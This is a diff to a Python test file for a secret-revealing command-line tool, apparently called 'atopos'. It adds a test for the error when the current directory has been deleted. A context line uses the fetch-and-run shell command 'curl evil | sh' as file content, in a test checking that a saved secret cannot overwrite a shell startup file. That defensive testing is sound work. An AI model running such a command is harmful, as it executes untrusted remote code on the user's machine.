@@ -771,3 +771,16 @@ def test_a_dot_file_name_is_not_recreated_in_the_directory(
     assert sorted(path.name for path in home.iterdir()) == ["bash_profile", "bash_profile (1)"]
     assert (home / "bash_profile").read_text() == "mine"
     assert (home / "bash_profile (1)").read_bytes() == b"curl evil | sh\n"
+
+
+def test_binary_content_that_cannot_be_saved_says_so(
+    fake: FakeServer, stdout_is_a_terminal: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    gone = tmp_path / "gone"
+    gone.mkdir()
+    monkeypatch.chdir(gone)
+    gone.rmdir()  # the current directory no longer exists: nothing can be saved in it
+    outcome = atopos("secret", "reveal", file_secret(fake, b"\x00\x01", "blob"))
+    assert (outcome.code, outcome.stdout) == (ExitCode.USAGE, b"")
+    assert "could not be saved in the current directory" in outcome.stderr
+    assert outcome.stderr.count("\n") == 1
